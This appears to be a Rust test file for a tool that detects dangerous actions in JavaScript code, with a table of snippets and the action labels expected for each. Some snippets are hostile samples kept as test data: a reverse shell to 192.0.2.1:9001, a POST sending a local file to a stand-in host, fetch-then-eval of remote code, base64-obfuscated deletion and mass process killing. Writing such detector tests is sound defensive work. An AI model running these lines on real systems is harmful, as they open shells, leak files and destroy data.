//! Texts of JavaScript.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts_and_mentions() {
    check(
        Language::JavaScript,
        &[
            ("require('child_process').execSync('ls -l')", &["shell ls -l"]),
            (
                "const {spawn: s} = require('node:child_process'); s('ls', ['-l', '/x'])",
                &["run ls | -l | /x"],
            ),
            ("require('child_process').spawn('ls', ['-l'], {shell: true})", &["shell ls -l"]),
            ("require('child_process').exec('ls', {cwd: '/srv'})", &["shell cd '/srv' && ls"]),
            ("require('fs').rmSync('/x', {recursive: true, force: true})", &["delete -r /x"]),
            ("require('fs').rmSync('/x', {recursive: false})", &["delete /x"]),
            ("const {rmSync:x}=require('fs'); x('/x',{recursive:true})", &["delete -r /x"]),
            ("require('fs')['rm' + 'Sync']('/x')", &["delete /x"]),
            ("import('node:fs').then(m => m.unlinkSync('/x'))", &["delete /x"]),
            (
                "const fs = await import('fs/promises'); await fs.rm('/x', {recursive: true})",
                &["delete -r /x"],
            ),
            (
                "import fs from 'fs'; import {unlinkSync as u} from 'fs'; u('/x'); fs.unlinkSync('/y')",
                &["delete /x", "delete /y"],
            ),
            ("require('fs').promises.unlink('/x')", &["delete /x"]),
            (
                "const fs=require('fs'); fs.readdirSync('/x').forEach(f => fs.unlinkSync('/x/' + f))",
                &["delete /x/«*»"],
            ),
            (
                "const fs=require('fs'); for (const f of fs.readdirSync('/x')) { fs.unlinkSync(`/x/${f}`) }",
                &["delete /x/«*»"],
            ),
            (
                "const fs=require('fs'); fs.readdir('/x', (e, l) => l.forEach(f => fs.unlink('/x/' + f, () => {})))",
                &["delete /x/«*»"],
            ),
            ("['/a', '/b'].forEach(require('fs').unlinkSync)", &["delete /a", "delete /b"]),
            (
                "const os=require('os'),p=require('path'); require('fs').rmSync(p.join(os.homedir(),'x'))",
                &["delete «home»/x"],
            ),
            (
                "require('fs').writeFileSync(`${process.env.HOME}/x`, 'y')",
                &["write «home»/x", "fill «home»/x : y"],
            ),
            (
                "require('fs').appendFileSync('x', 'y'); require('fs').readFileSync('z')",
                &["append x", "fill x : y", "read z"],
            ),
            ("require('rimraf').sync('/x')", &["delete -r /x"]),
            ("Reflect.apply(require('child_process').execSync, null, ['rm x'])", &["shell rm x"]),
            (
                "Deno.removeSync('/x', {recursive: true}); Bun.spawn(['ls', '-l'])",
                &["delete -r /x", "run ls | -l"],
            ),
            (
                "fetch('http://h/x').then(r => r.text()).then(eval)",
                &["connect http://h/x", "evaluate network"],
            ),
            ("eval(await (await fetch('http://h/x')).text())", &["connect http://h/x", "evaluate network"]),
            (
                "require('http').get('http://h/x', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
                &["evaluate network", "connect http://h/x"],
            ),
            (
                "fetch('http://h', {method: 'POST', body: require('fs').readFileSync('/k')})",
                &["read /k", "send http://h : /k"],
            ),
            (
                "eval(Buffer.from('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCIveCIp', 'base64').toString())",
                &["delete /x"],
            ),
            ("new Function('require(\"fs\").unlinkSync(\"/x\")')()", &["delete /x"]),
            ("console.log(process.env)", &["environment"]),
            (
                "const sh=require('child_process').spawn('/bin/sh',[]);const c=new (require('net').Socket)();\
                 c.connect(9001,'192.0.2.1',()=>{c.pipe(sh.stdin)})",
                &["run /bin/sh", "connect 192.0.2.1:9001"],
            ),
            ("const wipe = p => require('fs').unlinkSync(p); wipe('/w')", &["delete /w"]),
            ("process.kill(1)", &["kill"]),
            ("for (let i = 2; i < 99; i++) { process.kill(i, 9) }", &["kill", "kill counted"]),
        ],
    );
    for source in [
        "console.log('rm -rf /')",
        "// require('fs').rmSync('/')\n/* execSync('ls') */ 1",
        "const re = /execSync\\('ls'\\)/g; re.test(s)",
        "const re = /require('fs').unlinkSync('x')/; re.test(s)",
        "JSON.parse(process.argv[1]).foo",
        "console.log(process.env.PATH, Object.keys(process.env).length)",
        "const app = express(); app.post('/x', (q, r) => r.send('y')); app.delete('/z', f)",
        "const a = b / c; const d = e / f;",
        "const o = {exec: 1, rm: '/'}; console.log(o.exec)",
        "`rm -rf ${x}`",
        "const m = new Map(); m.delete('a'); s.split('/').join('-')",
    ] {
        assert_eq!(lines(Language::JavaScript, source), [""; 0], "{source}");
    }
}
